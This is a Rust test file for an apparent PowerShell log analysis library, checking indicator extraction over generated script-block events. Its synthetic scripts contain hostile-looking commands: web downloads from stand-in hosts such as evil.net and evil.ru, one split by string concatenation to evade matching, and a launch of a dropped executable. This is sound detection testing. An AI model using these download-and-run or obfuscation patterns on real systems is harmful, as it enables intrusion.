//! Indicators over generated logs, counted independently.

use scriptscope::report::{IndicatorList, IndicatorQuery};
use scriptscope::{Options, Session};
use std::collections::{BTreeMap, BTreeSet};

/// A script block of the generated log.
struct Block {
    computer: String,
    time: String,
    text: String,
    /// Kinds and values in the text that are indicators.
    right: Vec<(&'static str, String)>,
    /// Values that are left out, by reason.
    left_out: Vec<(&'static str, String)>,
}

/// A line of a script, its indicators, and the value in it that is left out.
type Line = (String, Vec<(&'static str, String)>, Option<(&'static str, String)>);

/// Makes so many blocks with known indicators by a small generator of numbers.
fn blocks(count: usize) -> Vec<Block> {
    let mut state = 7_u64;
    let mut next = move |below: u64| {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % below
    };
    let make = |index: usize| {
        let mut text = "Enable-PSRemoting -Force\n".to_owned();
        let mut right = Vec::new();
        let mut left_out = Vec::new();
        for _ in 0..next(4) {
            let number = next(40);
            let (line, values, out): Line = match next(10) {
                0 => {
                    let (host, url) =
                        (format!("c{number}.evil.net"), format!("http://c{number}.evil.net/p"));
                    (format!("iwr '{url}' -o x"), vec![("url", url), ("host", host)], None)
                }
                1 => {
                    let (host, url) =
                        (format!("j{number}.evil.ru"), format!("https://j{number}.evil.ru/q"));
                    let (left, right) = url.split_at(11);
                    (
                        format!("iwr ('{left}'+'{right}')"),
                        vec![("url", url.clone()), ("host", host)],
                        None,
                    )
                }
                2 => {
                    let value = format!("10.9.{number}.1");
                    (format!("ping {value}"), vec![("ipv4", value)], None)
                }
                3 => {
                    let value = format!("{number:032x}").replace('0', "d");
                    let value = format!("1{}", &value[1..]);
                    (format!("$h -eq '{value}'"), vec![("md5", value)], None)
                }
                4 => {
                    let value = format!("C:\\Users\\u{number}\\a.exe");
                    (format!("& '{value}'"), vec![("path", value)], None)
                }
                5 => {
                    let value = format!("HKCU\\Software\\k{number}");
                    (format!("reg add {value} /f"), vec![("registry-key", value)], None)
                }
                6 => {
                    let value = format!("1.2.3.{number}");
                    (format!("$version = '{value}'"), vec![], Some(("version", value)))
                }
                7 => {
                    let value = format!("203.0.113.{number}");
                    (format!("ping {value}"), vec![], Some(("documentation", value)))
                }
                8 => {
                    let value = format!("http://schemas.microsoft.com/{number}");
                    (format!("xmlns='{value}'"), vec![], Some(("schema", value)))
                }
                _ => (
                    format!("ping 127.0.0.{number}"),
                    vec![],
                    Some(("loopback", format!("127.0.0.{number}"))),
                ),
            };
            text.push_str(&line);
            text.push('\n');
            right.extend(values);
            left_out.extend(out);
        }
        let computer = format!("WS{:02}.corp.net", next(30));
        let time = format!("2026-08-{:02}T{:02}:{:02}:00Z", 1 + next(28), next(24), next(60));
        text.push_str(&format!("# {index}\n"));
        Block { computer, time, text, right, left_out }
    };
    (0..count).map(make).collect()
}

fn read<'a>(session: &mut Session, name: &str, blocks: impl Iterator<Item = (usize, &'a Block)>) {
    session.begin(name).unwrap();
    for (index, block) in blocks {
        let record = serde_json::json!({
            "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "MessageNumber": 1,
            "MessageTotal": 1, "ScriptBlockId": index.to_string(), "ScriptBlockText": block.text,
            "Computer": block.computer, "TimeCreated": block.time,
        });
        session.push(record.to_string().as_bytes()).unwrap();
        session.push(b"\n").unwrap();
    }
    session.end().unwrap();
}

/// Number of blocks, computers, first and last time of an indicator.
type Counts<'a> = (u64, u64, &'a str, &'a str);

/// Compares a list with an independent count over these blocks.
fn assert_counts(list: &IndicatorList, blocks: &[Block]) {
    let mut right: BTreeMap<(&str, &str), Vec<&Block>> = BTreeMap::new();
    let mut left_out: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
    for block in blocks {
        for (kind, value) in block.right.iter().collect::<BTreeSet<_>>() {
            right.entry((kind, value)).or_default().push(block);
        }
        for (reason, value) in &block.left_out {
            left_out.entry(reason).or_default().insert(value);
        }
    }
    let counts: BTreeMap<(&str, &str), Counts<'_>> = right
        .iter()
        .map(|(key, blocks)| {
            let computers: BTreeSet<&str> =
                blocks.iter().map(|own| own.computer.as_str()).collect();
            let times = || blocks.iter().map(|own| own.time.as_str());
            let (first, last) = (times().min().unwrap(), times().max().unwrap());
            (*key, (blocks.len() as u64, computers.len() as u64, first, last))
        })
        .collect();
    let found: BTreeMap<(&str, &str), Counts<'_>> = list
        .rows
        .iter()
        .map(|row| {
            let times = (row.first_time.as_deref().unwrap(), row.last_time.as_deref().unwrap());
            ((row.kind.as_str(), row.value.as_str()), (row.count, row.computers, times.0, times.1))
        })
        .collect();
    assert_eq!(found, counts);
    let left_out: BTreeMap<&str, u64> =
        left_out.iter().map(|(reason, values)| (*reason, values.len() as u64)).collect();
    assert_eq!(list.left_out, left_out);
}

#[test]
fn indicators_are_those_of_an_independent_count() {
    let blocks = blocks(2_000);
    let mut session = Session::new(Options::default()).unwrap();
    read(&mut session, "a.json", blocks.iter().enumerate());
    let list = session.indicators(&IndicatorQuery::default());

    assert_counts(&list, &blocks);
    for row in &list.rows {
        assert!(row.block_ids.len() as u64 == row.count.min(20));
        let joined = row.value.starts_with("https://j") || row.value.starts_with('j');
        assert_eq!(row.view, if joined { "plain" } else { "original" }, "{}", row.value);
        for id in &row.block_ids {
            assert!(session.block(id).is_some());
        }
    }
}

#[test]
fn the_list_is_the_same_however_the_logs_are_divided() {
    let blocks = blocks(300);
    let mut whole = Session::new(Options::default()).unwrap();
    read(&mut whole, "a.json", blocks.iter().enumerate());
    let whole = whole.indicators(&IndicatorQuery::default());
    let mut merged = Session::new(Options::default()).unwrap();
    for part in [2, 0, 1] {
        let mut session = Session::new(Options::default()).unwrap();
        let own = blocks.iter().enumerate().filter(|(index, _)| index % 3 == part);
        read(&mut session, &format!("{part}.json"), own);
        merged.merge(&session.partial().unwrap()).unwrap();
    }
    assert_eq!(merged.indicators(&IndicatorQuery::default()), whole);
}

#[test]
fn a_query_filters_and_pages() {
    let blocks = blocks(300);
    let mut session = Session::new(Options::default()).unwrap();
    read(&mut session, "a.json", blocks.iter().enumerate());
    let mut list = |query: &str| -> IndicatorList {
        session.indicators(&serde_json::from_str(query).unwrap())
    };
    let all = list("{}");
    let hosts = list(r#"{"kind": "host"}"#);
    assert!(hosts.total > 0 && hosts.rows.iter().all(|row| row.kind.as_str() == "host"));
    assert!(hosts.rows.is_sorted_by_key(|row| std::cmp::Reverse(row.count)));
    let page = list(r#"{"kind": "host", "offset": 2, "limit": 3}"#);
    assert_eq!((page.total, &page.rows[..]), (hosts.total, &hosts.rows[2..5]));
    let text = list(r#"{"filter": {"text": "EVIL.RU"}}"#);
    assert!(text.total > 0 && text.rows.iter().all(|row| row.value.contains("evil.ru")));
    let block = &all.rows[0].block_ids[0];
    let of_block = list(&format!(r#"{{"filter": {{"block": "{block}"}}}}"#));
    assert!(of_block.rows.iter().all(|row| row.count > 20 || row.block_ids.contains(block)));
    assert!(of_block.rows.contains(&all.rows[0]));
    let computer = &all.rows[0].computer_names[0];
    let of_computer = list(&format!(r#"{{"filter": {{"computer": "{computer}"}}}}"#));
    assert!(of_computer.rows.contains(&all.rows[0]));
    let left_out = list(r#"{"filter": {"leftOut": true}}"#);
    assert_eq!(left_out.total, all.left_out.values().sum::<u64>());
    assert!(left_out.rows.iter().all(|row| row.left_out.is_some()));
    assert!(serde_json::from_str::<IndicatorQuery>(r#"{"kid": 1}"#).is_err());
}

#[test]
fn those_of_every_block_are_counted_once_however_they_are_read() {
    let mut blocks = blocks(1_200);
    for block in blocks.iter_mut().skip(1).step_by(2) {
        block.text = block.text.replace("Enable-PSRemoting -Force", "Get-Date");
    }
    let options = || Options::default().with_indicators(true);
    let mut whole = Session::new(options()).unwrap();
    read(&mut whole, "a.json", blocks.iter().enumerate());
    let list = whole.indicators(&IndicatorQuery::default());
    assert_counts(&list, &blocks);
    assert_eq!(list.problems, []);
    // The same log once more, in pieces and under another name.
    let mut merged = Session::new(options()).unwrap();
    for part in [2, 0, 1] {
        let mut session = Session::new(options()).unwrap();
        let own = || blocks.iter().enumerate().filter(|(index, _)| index % 3 == part);
        read(&mut session, &format!("{part}.json"), own());
        read(&mut session, "copy.json", own());
        merged.merge(&session.partial().unwrap()).unwrap();
    }
    assert_eq!(merged.indicators(&IndicatorQuery::default()).rows, list.rows);
    let plain = Session::new(Options::default()).unwrap().partial().unwrap();
    assert!(merged.merge(&plain).is_err());
}

#[test]
fn a_value_that_parts_cut_is_found_and_an_incomplete_block_is_said() {
    let part = |id: &str, number: u32, text: &str| {
        let record = serde_json::json!({
            "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "MessageNumber": number,
            "MessageTotal": 2, "ScriptBlockId": id, "ScriptBlockText": text, "Computer": "FS03",
        });
        record.to_string()
    };
    let log = [
        part("a", 2, "il.net/x'; Get-Date"),
        part("b", 1, "iwr 'http://lost.net/"),
        part("a", 1, "iwr 'http://ev"),
    ];
    let mut session = Session::new(Options::default().with_indicators(true)).unwrap();
    session.begin("a.json").unwrap();
    session.push(log.join("\n").as_bytes()).unwrap();
    session.end().unwrap();
    let list = session.indicators(&IndicatorQuery::default());
    let values: Vec<&str> = list.rows.iter().map(|row| row.value.as_str()).collect();
    assert_eq!(values, ["http://evil.net/x", "evil.net"]);
    assert_eq!(list.problems[0].code, "indicators-unread");
}
